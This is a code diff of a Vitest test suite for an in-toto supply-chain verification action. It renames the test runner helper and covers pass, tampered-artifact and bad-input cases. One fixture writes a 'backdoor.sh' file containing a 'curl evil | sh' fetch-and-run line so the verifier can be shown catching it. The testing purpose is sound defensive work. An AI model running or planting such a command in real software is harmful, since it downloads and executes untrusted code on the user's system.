@@ -7,9 +7,9 @@ import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:f
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { runAction } from '../harness/runner.js';
+import { runBuiltAction } from '../harness/runner.js';
 import { makeStatement, signStatement } from '../../src/core/statement.js';
-import { loadPrivateKey } from '../../src/core/keys.js';
+import { loadPrivateKey } from '../../src/core/ed25519.js';
 import { mc } from './scenarios.js';
 import { copyTestKeys } from '../helpers/test-keys.js';
 
@@ -41,7 +41,7 @@ beforeAll(async () => {
 describe('mc/intoto-verify bundle on the runner contract', () => {
   const inputs = { layout: 'root.layout', 'layout-keys': 'owner.pub', 'key-types': 'ed25519', attestations: 'att.json', 'attestation-keys': 'dev-signer.pub', artifacts: 'dist/app.txt', 'predicate-types': 'https://slsa.dev/provenance/v1', 'builder-id': 'https://github.com/mc/builder', 'source-uri': 'github.com/mc/example', 'source-ref': 'main', report: '' };
   it('passes: outputs, per-step summary table, exit 0', async () => {
-    const r = await runAction('intoto-verify', { workspace: ws, inputs });
+    const r = await runBuiltAction('intoto-verify', { workspace: ws, inputs });
     expect(r.stderr).toBe('');
     expect(r.exitCode).toBe(0);
     expect(r.outputs).toMatchObject({ verdict: 'pass', passed: 'true', 'layout-passed': 'true', 'attestations-passed': 'true', 'failed-check': '' });
@@ -55,7 +55,7 @@ describe('mc/intoto-verify bundle on the runner contract', () => {
     cpSync(ws, bad, { recursive: true });
     writeFileSync(join(bad, 'dist', 'backdoor.sh'), 'curl evil | sh\n');
     // the inspection's DISALLOW * catches the extra file in the final product
-    const r = await runAction('intoto-verify', { workspace: bad, inputs: { layout: 'root.layout', 'layout-keys': 'owner.pub', 'key-types': 'ed25519', report: 'out/verdict.json' } });
+    const r = await runBuiltAction('intoto-verify', { workspace: bad, inputs: { layout: 'root.layout', 'layout-keys': 'owner.pub', 'key-types': 'ed25519', report: 'out/verdict.json' } });
     rmSync(bad, { recursive: true, force: true });
     expect(r.exitCode).toBe(1);
     expect(r.outputs).toMatchObject({ verdict: 'fail', 'failed-check': 'rule', 'failed-step': 'check', report: 'out/verdict.json' });
@@ -69,18 +69,18 @@ describe('mc/intoto-verify bundle on the runner contract', () => {
     const bad = mkdtempSync(join(tmpdir(), 'mc-intoto-action-att-'));
     cpSync(ws, bad, { recursive: true });
     writeFileSync(join(bad, 'dist', 'app.txt'), 'tampered\n');
-    const r = await runAction('intoto-verify', { workspace: bad, inputs: { attestations: 'att.json', 'attestation-keys': 'dev-signer.pub', artifacts: 'dist/*.txt', report: '' } });
+    const r = await runBuiltAction('intoto-verify', { workspace: bad, inputs: { attestations: 'att.json', 'attestation-keys': 'dev-signer.pub', artifacts: 'dist/*.txt', report: '' } });
     rmSync(bad, { recursive: true, force: true });
     expect(r.exitCode).toBe(1);
     expect(r.outputs).toMatchObject({ verdict: 'fail', 'attestations-passed': 'false' });
     expect(r.annotations.some((a) => a.level === 'error' && a.props.file === 'att.json' && a.message.includes('dist/app.txt'))).toBe(true);
   }, 60_000);
   it('unusable input exits 2 with one annotated line, no stack trace', async () => {
-    const r = await runAction('intoto-verify', { workspace: ws, inputs: { layout: 'root.layout', 'layout-keys': 'owner.pub', 'key-types': 'dsa', report: '' } });
+    const r = await runBuiltAction('intoto-verify', { workspace: ws, inputs: { layout: 'root.layout', 'layout-keys': 'owner.pub', 'key-types': 'dsa', report: '' } });
     expect(r.exitCode).toBe(2);
     expect(r.annotations[0].message).toMatch(/key-types/);
     expect(r.stdout).not.toMatch(/\n\s+at /);
-    const none = await runAction('intoto-verify', { workspace: ws, inputs: { report: '' } });
+    const none = await runBuiltAction('intoto-verify', { workspace: ws, inputs: { report: '' } });
     expect(none.exitCode).toBe(2);
   }, 60_000);
 });
